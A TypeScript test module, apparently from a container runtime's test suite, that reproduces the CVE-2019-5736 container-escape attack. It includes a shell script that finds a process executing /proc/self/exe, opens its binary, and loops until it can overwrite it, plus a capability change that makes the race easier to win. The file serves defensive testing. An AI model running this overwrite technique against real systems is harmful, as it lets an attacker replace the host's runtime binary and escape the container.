/** An attack on the program that executes an image's `#!/proc/self/exe` (CVE-2019-5736), and what gives it time. */

import { execFileSync } from 'node:child_process';
import { closeSync, constants, openSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import { errnoOf } from '../../../runtime/base/errors.ts';
import { defaultCapabilities } from '../stage1/harness.ts';

/** A pipe that takes no more, so that whoever writes to it waits: the attacker has all the time there is. */
export function fullPipe(dir: string): { blocked: number; close: () => void } {
  const path = join(dir, 'full');
  execFileSync('mkfifo', [path]);
  const filler = openSync(path, constants.O_RDWR | constants.O_NONBLOCK);
  try {
    for (;;) writeSync(filler, 'x'.repeat(4096));
  } catch (error) {
    if (errnoOf(error) !== 'EAGAIN') throw error;
  }
  const blocked = openSync(path, 'r+');
  return { blocked, close: () => [filler, blocked].forEach(closeSync) };
}

/**
 * With the default capabilities the attacker has to open the program in the moment between its execution and its first
 * instructions, which hide it. CAP_SYS_PTRACE (capabilities(7)) saves the test that race.
 */
export const attackCapabilities = defaultCapabilities | (1n << 19n);

/** Opens the program while it runs, and writes to it as soon as it does not. */
export const attack = `victim=
while [ -z "$victim" ]; do
  for process in /proc/[0-9]*; do
    grep -q '^/proc/self/exe' $process/cmdline && victim=$process
  done 2>/dev/null
done 2>/dev/null
exec 9<$victim/exe && echo seen
until (echo overwritten >/proc/self/fd/9) 2>/tmp/error; do
  grep -q 'Text file busy' /tmp/error || break
done
cat /tmp/error; echo done`;
